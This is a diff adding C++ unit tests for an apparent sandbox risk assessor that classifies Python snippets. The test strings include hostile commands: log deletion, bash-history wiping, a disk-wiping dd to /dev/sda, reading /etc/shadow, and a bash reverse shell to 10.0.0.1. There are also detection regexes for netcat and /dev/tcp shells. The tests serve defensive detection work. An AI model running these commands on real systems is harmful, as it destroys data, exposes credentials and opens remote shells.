@@ -2,6 +2,8 @@
 // can do, with which arguments, wherever the values were built.
 #include <gtest/gtest.h>
 
+#include <string>
+
 #include "assess_fixture.hpp"
 #include "sandboxrun/assess.hpp"
 
@@ -94,4 +96,33 @@ TEST(AssessCapabilities, ReadingLogsAndWritingAReportIsNotCoveringTracks) {
             RiskLevel::medium);
   EXPECT_EQ(level("import glob, os\nfor p in glob.glob('/var/log/*.log'):\n    os.remove(p)\n"), RiskLevel::blocked);
   EXPECT_EQ(level("import os\nopen(os.path.expanduser('~/.bash_history'), 'w').close()\n"), RiskLevel::blocked);
+}
+
+TEST(AssessCapabilities, ALocalSubclassIsCalledAsItsBase) {
+  // The server's class is the file's own; its constructor is TCPServer's (the mixin has none).
+  auto server = [](const std::string& host) {
+    return "import socketserver\n"
+           "class Server(socketserver.ThreadingMixIn, socketserver.TCPServer):\n    daemon_threads = True\n"
+           "srv = Server(('" + host + "', 9009), socketserver.StreamRequestHandler)\nsrv.serve_forever()\n";
+  };
+  EXPECT_EQ(level(server("")), RiskLevel::high);
+  EXPECT_EQ(level(server("127.0.0.1")), RiskLevel::medium);
+  EXPECT_EQ(level("from http.server import HTTPServer as H, BaseHTTPRequestHandler\nclass S(H):\n    pass\n"
+                  "S(('0.0.0.0', 80), BaseHTTPRequestHandler).serve_forever()\n"),
+            RiskLevel::high);
+}
+
+TEST(AssessCapabilities, RegexPatternsNameWhatTheyLookForWithoutDoingIt) {
+  // A linter's signatures: the patterns are text to search for, the file only reads and prints.
+  EXPECT_EQ(level("import re, sys\nRULES = [re.compile(r'dd\\s+if=/dev/zero\\s+of=/dev/sda'),\n"
+                  "         re.compile(r'/dev/tcp/\\d+\\.\\d+\\.\\d+\\.\\d+/\\d+|nc\\s+-e\\s+/bin/sh'),\n"
+                  "         re.compile('/etc/shadow')]\n"
+                  "for line in sys.stdin:\n    print(any(r.search(line) for r in RULES))\n"),
+            RiskLevel::low);
+  EXPECT_EQ(level("import fnmatch, sys\nprint(fnmatch.fnmatch(sys.argv[1], '*/etc/shadow'))\n"), RiskLevel::low);
+  // The same strings anywhere else still count: run, opened, or kept for later.
+  EXPECT_EQ(level("import os\nos.system('dd if=/dev/zero of=/dev/sda')\n"), RiskLevel::blocked);
+  EXPECT_EQ(level("print(open('/etc/shadow').read())\n"), RiskLevel::high);
+  EXPECT_EQ(level("import re, os\nCMD = 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'\nos.system(CMD)\n"),
+            RiskLevel::blocked);
 }
